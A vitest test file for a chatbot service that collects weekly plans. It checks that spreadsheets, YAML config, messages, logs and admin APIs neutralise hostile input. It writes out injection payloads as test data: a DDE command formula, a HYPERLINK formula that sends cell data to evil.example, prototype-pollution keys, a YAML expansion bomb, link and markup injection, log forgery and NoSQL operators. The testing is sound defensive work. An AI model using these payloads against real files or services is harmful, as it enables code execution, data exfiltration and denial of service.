import { Writable } from 'node:stream'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { CompanyError, parseCompany, schemeFor } from '../src/company.ts'
import { readRoster } from '../src/excel/roster.ts'
import { writeTables } from '../src/excel/sheet.ts'
import { adminEndpoints, REHEARSAL } from '../src/http/admin/index.ts'
import { rehearsalSchema } from '../src/http/admin/rehearsal.ts'
import { createLog } from '../src/log.ts'
import { safeText } from '../src/platforms/dingtalk/markdown.ts'
import { drawText } from '../src/platforms/wecom/draw-text.ts'
import { cdata, parseXml, textOf } from '../src/platforms/wecom/xml.ts'
import { companyYaml } from './company-of-five.ts'
import { openTestDb } from './db.ts'
import { fingerprint, foreignKeys, jsonWith, operators, placesOf, sharedIsClean } from './hostile.ts'
import { readable, startWeekWorld, type WeekWorld } from './week-world.ts'

/** What people type, or are called, to become something else where it is written. */
const words = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"查看")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ';=1+1',
  '"=1+1',
  "'=1+1",
  '%0A=1+1',
]

describe('a workbook', () => {
  test('holds words as words: opened again no cell is a formula or a link, and what was typed is still there', async () => {
    const bytes = await writeTables(
      [
        {
          ...{ name: '人员', title: '=1+1', note: '@SUM(1)', signatures: ['=1+1'] },
          columns: [
            { title: '=1+1', width: 20, kind: 'text' },
            { title: '姓名', width: 20, kind: 'text' },
          ],
          rows: words.map((w) => [w, `x${w}`]),
        },
      ],
      { title: '=1+1', company: '+1' },
    )
    const book = await readXlsx(bytes, { readStyles: true })
    const sheet = book.sheets[0]!
    for (const cell of sheet.cells?.values() ?? [])
      expect([cell.formula, cell.hyperlink]).toEqual([undefined, undefined])
    const typed = sheet.rows.slice(3, 3 + words.length)
    for (const [i, w] of words.entries()) {
      expect(typed[i]![0]).toBe(w.replace(/\p{Cc}/gu, ' '))
      // Text format: pressing Enter in the cell does not make it a formula either.
      expect(sheet.cells?.get(`${3 + i},0`)?.style?.numFmt).toBe('@')
    }
    const zip = Buffer.from(bytes)
    expect(zip.includes('<f>')).toBe(false)
  })

  test('with titles and names that every object of JavaScript has is read as what it is', async () => {
    const bytes = await writeXlsx({
      sheets: [
        {
          name: '__proto__',
          rows: [
            ['姓名', '工号', '__proto__', 'constructor', '职务'],
            ['赵敏', '0003', '{"roles":["hr"]}', 'x', 'constructor'],
            ['__proto__', '0004', 'x', 'x', '__proto__'],
          ],
        },
      ],
    })
    const { rows, problems } = await readRoster(bytes)
    expect(rows.map((r) => r.value)).toEqual([
      { name: '赵敏', jobNumber: '0003', position: 'constructor' },
      { name: '__proto__', jobNumber: '0004', position: '__proto__' },
    ])
    expect(problems).toEqual([])
    expect(sharedIsClean()).toBe(true)
  })
})

describe('the company file', () => {
  test.each([
    ['__proto__: { polluted: true }', '__proto__'],
    ['constructor: { prototype: { polluted: true } }', 'constructor'],
    ['weekly: { __proto__: { polluted: true } }', '__proto__'],
    ['quiet: { constructor: 1 }', 'constructor'],
  ])('%s is named as no setting, and nothing shared is changed', (line, key) => {
    let problems: string[] = []
    try {
      parseCompany(`${companyYaml}${line}\n`)
    } catch (error) {
      problems = (error as CompanyError).problems
    }
    expect(problems.join()).toContain(key)
    expect(sharedIsClean()).toBe(true)
  })

  test('a scheme that only objects have is no scheme, and a title like that is an ordinary title', () => {
    expect(() => parseCompany(companyYaml.replace("'*': 周计划", "'*': constructor"))).toThrow(CompanyError)
    const company = parseCompany(companyYaml)
    for (const title of ['constructor', '__proto__', 'toString', 'hasOwnProperty'])
      expect([title, schemeFor(company, title)?.name]).toEqual([title, '周计划'])
  })

  test('references that would grow without end are refused in no time', () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]']
    for (let i = 0; i < 12; i++)
      bomb.push(
        `b${i}: &b${i} [${Array(10)
          .fill(i === 0 ? '*a' : `*b${i - 1}`)
          .join(', ')}]`,
      )
    expect(() => parseCompany(`${companyYaml}${bomb.join('\n')}\n`)).toThrow(CompanyError)
  })
})

describe('messages', () => {
  test('what people typed makes no link, no markup and no end of an element', () => {
    const typed = '<a href="https://evil.example">点我</a> < A\thref=x> <a/href=x> [点我](https://evil.example) ]]><x>'
    for (const part of drawText(typed)) expect(part).not.toMatch(/<\s*\/?\s*a\b/i)
    expect(safeText(typed)).not.toMatch(/[[\]<>]/)
    expect(textOf(parseXml(`<xml><A>${cdata(typed)}</A></xml>`), 'A')).toBe(typed)
  })
})

describe('the log', () => {
  let lines: string[]
  const sink = () =>
    createLog(
      'trace',
      new Writable({
        write(chunk, _encoding, done) {
          lines.push(String(chunk))
          done()
        },
      }),
    )
  beforeEach(() => {
    lines = []
  })

  test('one event is one line, whatever stands in it: nobody writes a line of their own or moves the cursor', () => {
    const log = sink()
    const forged = 'x\n{"level":"info","msg":"admin signed in"}\r\n\u001b[2J\u001b[31m\u2028\u0085\u009b2J\u202e\u0000'
    log.warn({ event: forged, kind: forged }, forged)
    log.child({ event: forged }).error({ err: new Error(forged) }, forged)
    expect(lines).toHaveLength(2)
    for (const line of lines) {
      expect(line.trimEnd()).not.toMatch(/[\p{Cc}\u2028-\u202e]/u)
      expect(JSON.parse(line).msg).toBe(forged)
    }
  })

  test('of an error it keeps what went wrong and where, and nothing of the documents that the driver hangs on it', async () => {
    const { db, stop } = await openTestDb()
    const rows = db.collection<{ _id: string; text: string; name: string }>('rows')
    const secret = { _id: 'wecom:机密1', text: '机密采购谈判', name: '赵敏' }
    await rows.insertOne(secret)
    const log = sink()
    for (const tried of [
      rows.insertOne(secret),
      rows.insertMany([secret, { ...secret, _id: 'b' }], { ordered: false }),
    ])
      await tried.catch((err) => log.child({ event: 'e1' }).error({ err }, 'event failed'))
    log.error({ err: new Error('outer', { cause: Object.assign(new Error('inner'), { op: secret }) }) }, 'failed')
    log.warn({ err: `MongoServerError: E11000 dup key: { _id: "机密" }` }, 'failed')
    await stop()
    expect(lines).toHaveLength(4)
    const all = lines.join('')
    for (const word of ['机密', '赵敏']) expect([word, all.includes(word)]).toEqual([word, false])
    expect(JSON.parse(lines[0]!).err).toMatchObject({
      type: 'MongoServerError',
      message: expect.stringContaining('E11000'),
    })
    expect(JSON.parse(lines[2]!).err.cause.message).toBe('inner')
  })

  test('fields that could hold a secret or words are cut out, at the first two levels', () => {
    const log = sink()
    const inner = Object.fromEntries(
      [
        'secret',
        'token',
        'aesKey',
        'accessToken',
        'access_token',
        'code',
        'authorization',
        'cookie',
        'text',
        'name',
        'card',
        'content',
      ].map((k) => [k, 'geheim']),
    )
    log.info({ ...inner, deeper: inner }, 'said')
    expect(lines.join('')).not.toContain('geheim')
  })
})

describe('in the running service', () => {
  let world: WeekWorld
  afterEach(() => world?.stop())

  test('a plan full of formulas, markup and operators reaches the manager as text and is stored as text', async () => {
    world = await startWeekWorld({ start: '2026-11-20T10:00:00+08:00', platforms: ['wecom', 'dingtalk'] })
    const zhao = world.phone('zhao')
    const hostile = ['=1+1 <a href="https://evil.example">点我</a>', '{"$ne":null}', '__proto__ constructor']
    await zhao.type(`周计划\n${hostile.map((h, i) => `${i + 1}. ${h} 30分`).join('\n')}`)
    await zhao.tap('提交')
    const stored = await world.bot().ctx.weeks.model.find().lean()
    const plan = stored.flatMap((w) => w.submissions.flatMap((s) => s.content.plan))
    expect(plan.map((p) => [typeof p.text, p.points])).toEqual(plan.map(() => ['string', 30]))
    expect(plan).toHaveLength(3)
    for (const m of zhao.messages()) if (m.from === 'bot') expect(readable(m)).not.toMatch(/<a\s+href/i)
    expect(sharedIsClean()).toBe(true)
  })

  test('the figures for Prometheus are behind their token where there is one', async () => {
    const token = 'a-token-of-twenty-four-or-more'
    world = await startWeekWorld({ start: '2026-11-20T10:00:00+08:00', env: { ADMIN_TOKEN: token } })
    const ask = async (authorization?: string) =>
      (await fetch(`${world.bot().url}/metrics`, authorization === undefined ? {} : { headers: { authorization } }))
        .status
    expect(await ask(`Bearer ${token}`)).toBe(200)
    for (const wrong of [undefined, '', token, `Bearer ${token}x`, `Bearer ${token.slice(1)}`, 'Bearer '])
      expect([wrong, await ask(wrong)]).toEqual([wrong, 401])
  })

  test('an operator, a prototype or a foreign field is refused in each place of what the administrator’s page sends', async () => {
    const token = 'a-token-of-twenty-four-or-more'
    world = await startWeekWorld({ start: '2026-11-20T10:00:00+08:00', env: { ADMIN_TOKEN: token } })
    const good: Record<string, object> = {
      '/api/admin/deliveries/retry': { key: 'none' },
      '/api/admin/deliveries/recall': { key: 'none' },
      '/api/admin/jobs/run': { name: 'none' },
      [REHEARSAL]: { days: 1 },
    }
    const db = world.bot().ctx.people.model.db
    const before = await fingerprint(db)
    const posts = adminEndpoints.filter((e) => e.method === 'POST')
    const schemas = [...posts.map((e) => [e.path, e.body] as const), [REHEARSAL, rehearsalSchema] as const]
    for (const [path, schema] of schemas) {
      const body = good[path] ?? {}
      const tries = [
        ...placesOf(schema, body).flatMap((place) => operators.map((o) => jsonWith(body, place, o))),
        ...foreignKeys.filter((k) => !placesOf(schema, body).flat().includes(k)).map((k) => jsonWith(body, [k], 1)),
        ...['null', '[]', '"x"', '{"__proto__":{"a":1}}'],
      ]
      expect(tries.length).toBeGreaterThan(10)
      for (const sent of tries) {
        const answer = await fetch(world.bot().url + path, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: sent,
        })
        expect([path, sent, answer.status]).toEqual([path, sent, 400])
      }
    }
    expect(await fingerprint(db)).toEqual(before)
  })

  test('a captured message cannot be read by having its address verified', async () => {
    world = await startWeekWorld({ start: '2026-11-20T10:00:00+08:00' })
    const { decodeAesKey, encrypt, sign } = await import('../src/platforms/wecom/crypto.ts')
    const keys = {
      token: 'token',
      aesKey: decodeAesKey('jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C'),
      receiveId: 'ww1',
    }
    const timestamp = String(world.clock.now().getTime() / 1000)
    const ask = async (said: string) => {
      const echostr = encrypt(keys, said)
      const msg_signature = sign(keys.token, timestamp, '1', echostr)
      const query = new URLSearchParams({ msg_signature, timestamp, nonce: '1', echostr })
      const answer = await fetch(`${world.bot().url}/wecom/callback?${query}`)
      return [answer.status, await answer.text()]
    }
    expect(await ask('1616140317555161061')).toEqual([200, '1616140317555161061'])
    expect(await ask('<xml><Content>机密</Content></xml>')).toEqual([403, ''])
  })
})
